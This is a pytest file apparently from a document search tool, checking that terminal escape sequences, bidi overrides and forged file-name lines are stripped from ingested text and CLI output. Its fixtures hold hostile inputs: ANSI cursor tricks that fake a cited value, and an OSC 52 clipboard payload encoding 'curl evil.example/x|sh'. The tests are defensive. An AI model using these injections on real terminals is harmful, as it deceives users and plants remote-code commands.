"""Document text never drives the reader's terminal. A page holding ``ESC [15D ESC [0K``
(cursor back 15, erase to the end of the line) after "opens at 50 bar" made `citewise ask`
show "opens at 99 bar [1]" in a terminal, a cited answer the page does not give; an OSC 52
sequence wrote a shell command to the clipboard, OSC 0 set the window title, and a file name
holding a line break forged a line of the ingest report. Ingest drops control characters
(C0 but tab and newline, DEL, C1), and everything the CLI prints goes through one filter that
also drops bidirectional overrides, for indexes built before."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from citewise.cli.common import echo, echo_json, terminal_safe
from citewise.config import Settings
from citewise.engine import Engine
from citewise.ingest.normalize import drop_controls
from citewise.testing import FakeEmbedder
from citewise.testing.pdf import raw_pdf
from citewise.testing.terminal import run_in_pty

CITEWISE = str(Path(sys.executable).with_name("citewise"))
ESC, BEL, CSI8 = "\x1b", "\x07", "\x9b"
PAGE = ("<html><head><title>Valve manual</title></head><body>"
        "<h1>Valve &#27;]0;PWNED-TITLE&#7;settings</h1>"
        "<p>The relief valve opens at 50 bar&#27;[15D&#27;[0Kopens at 99 bar. Always check the "
        "gauge&#155;2J before opening the valve.&#27;]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==&#7;"
        "</p><p>Page one&#12;Page two, after a form feed.</p></body></html>")


def _controls(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f]


def test_ingest_drops_control_characters_from_titles_headings_and_text(tmp_path: Path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "valve.html").write_text(PAGE, encoding="utf-8")
    (tmp_path / "docs" / "notes.md").write_text(
        "---\ntitle: \"Notes\\u001b[31m red\"\n---\n# Head\x1b[2J\n\nBody\x07 text\r\nmore\n",
        encoding="utf-8")
    with Engine(tmp_path / "i.db", Settings(), embedder=FakeEmbedder()) as engine:
        assert engine.ingest_paths([tmp_path / "docs"], {"groups": ["public"]}).count("new") == 2
        for doc in engine.store.list_documents():
            parsed = engine.store.get_parsed(doc.doc_id)
            everything = [doc.title, parsed.title, parsed.text,
                          *(h for b in parsed.blocks for h in b.heading_path)]
            assert not [t for t in everything if _controls(t)], everything
        texts = {d.title: engine.store.get_parsed(d.doc_id).text
                 for d in engine.store.list_documents()}
    assert "Head[2J" in texts["Notes[31m red"] and "Body text" in texts["Notes[31m red"]
    assert "opens at 50 bar[15D[0Kopens at 99 bar" in texts["Valve manual"]
    assert "Page one Page two" in texts["Valve manual"]  # HTML: a form feed is a space


def test_drop_controls_keeps_text_tabs_and_line_breaks():
    assert drop_controls("a\tb\nc\x00d\x1b[0m\x7f\x85e\x9bf") == "a\tb\ncd[0m\nef"
    assert drop_controls("one\r\ntwo\rthree\x0bfour\x0cfive") == "one\ntwo\nthree\nfour\nfive"
    # invisible characters split words for search and for the injection detector
    assert drop_controls("Ig\u200bnore\u2060 re\u00adply \ufeffonly") == "Ignore reply only"
    assert drop_controls("\u0928\u094d\u200d\u0915 \U0001f469\u200d\U0001f4bb") == (
        "\u0928\u094d\u200d\u0915 \U0001f469\u200d\U0001f4bb")  # joiners stay
    # bidi overrides and isolates reorder what a reader sees ("30 days in Taxes" was shown
    # for "is \u202esexaT ni syad 03\u202c"); direction marks stay for right-to-left text
    assert drop_controls("is \u202esexaT ni syad 03\u202c \u2067x\u2069") == \
        "is sexaT ni syad 03 x"
    assert drop_controls("\u05e9\u05dc\u05d5\u05dd\u200f (1)") == \
        "\u05e9\u05dc\u05d5\u05dd\u200f (1)"


def test_letters_that_show_blank_are_spaces_so_a_title_cannot_push_its_link_away(
        tmp_path: Path):
    """A security review's title "Official … (https://portal…, updated …)" and 150 blank
    braille cells (not white space to Python) put the citation's real link off screen."""
    assert drop_controls("a\u2800\u2800b\u3164c\u115f\u1160d\uffa0e") == "a  b c  d e"
    page = tmp_path / "a.md"
    page.write_text("---\ntitle: Official (https://x.example/p)" + "\u2800" * 150 +
                    "\n---\n# Rotation\n\nRotate every 5 days.\n", encoding="utf-8")
    with Engine(tmp_path / "i.db", Settings(), embedder=FakeEmbedder()) as engine:
        engine.ingest_paths([page], {"groups": ["public"]})
        (doc,) = engine.store.list_documents()
    assert doc.title == "Official (https://x.example/p)"


def test_what_the_cli_prints_has_no_terminal_controls(capsys):
    hostile = f"50 bar{ESC}[15D{ESC}[0K99 bar{ESC}]52;c;Y3VybA=={BEL}{CSI8}2J \u202eevil\u202c"
    assert terminal_safe(hostile) == "50 bar[15D[0K99 bar]52;c;Y3VybA==2J evil"
    assert terminal_safe("a.pdf\ndocuments: 0 new", one_line=True) == "a.pdf\\ndocuments: 0 new"
    echo(hostile)
    echo_json({"text": hostile})
    out = capsys.readouterr().out
    assert not _controls(out.replace("\n", "")) and "\u202e" not in out
    assert json.loads(out[out.index("{"):])["text"] == hostile  # JSON keeps the value, escaped


@pytest.mark.model
def test_ask_and_search_in_a_terminal_show_the_page_not_what_its_escapes_draw(tmp_path: Path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "valve.html").write_text(PAGE, encoding="utf-8")
    bad = tmp_path / "docs" / "x\ndocuments: 0 new, 0 changed, 0 failed.pdf"
    bad.write_bytes(b"not a pdf")
    env = {**os.environ, "COLUMNS": "120", "TERM": "xterm"}
    db = str(tmp_path / "t.db")

    def run(*args: str):
        result = run_in_pty([CITEWISE, *args, "--db", db], cwd=tmp_path, env=env, timeout=240)
        assert ESC not in result.text and BEL not in result.text and CSI8 not in result.text
        return result

    ingest = run("ingest", "docs", "--groups", "staff")
    assert ingest.returncode == 0, ingest.text
    # one line, the file name's line break shown as \n
    assert "failed: docs/x\\ndocuments: 0 new, 0 changed, 0 failed.pdf: not a PDF" in ingest.text
    ask = run("ask", "At what pressure does the relief valve open?", "--groups", "staff",
              "--generator", "extractive")
    assert "opens at 50 bar[15D[0Kopens at 99 bar" in ask.text
    search = run("search", "relief valve pressure", "--groups", "staff")
    assert "Valve ]0;PWNED-TITLEsettings" in search.text


def _looping_outline_pdf() -> bytes:
    """One page, and an outline whose entry is its own next and first child (pypdf repairs
    the loop and warns with the raw entry, its title's bytes included)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources "
        b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length 64 >>\nstream\nBT /F1 12 Tf 72 720 Td (The boiler pressure limit is "
        b"12 bar.) Tj ET\nendstream",
        b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
        b"<< /Title (Loop \x1b]0;PWNED\x07 outline) /Parent 5 0 R /Dest [3 0 R /Fit] "
        b"/Next 6 0 R /First 6 0 R /Last 6 0 R /Count 1 >>",
    ]
    return raw_pdf(objects)


@pytest.mark.model
def test_a_pdfs_repairs_are_not_printed_with_its_raw_bytes(tmp_path: Path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "boiler.pdf").write_bytes(_looping_outline_pdf())
    done = subprocess.run([CITEWISE, "ingest", "docs", "--groups", "staff", "--no-progress",
                           "--db", str(tmp_path / "t.db")], cwd=tmp_path, capture_output=True,
                          text=True, timeout=240)
    assert done.returncode == 0 and "1 new" in done.stdout, done.stderr
    said = [line for line in done.stderr.splitlines()  # a slow machine's progress lines
            if not line.startswith("ingest: ")]  # (--no-progress: lines, not a bar) aside
    assert said == [] and ESC not in done.stderr + done.stdout, done.stderr
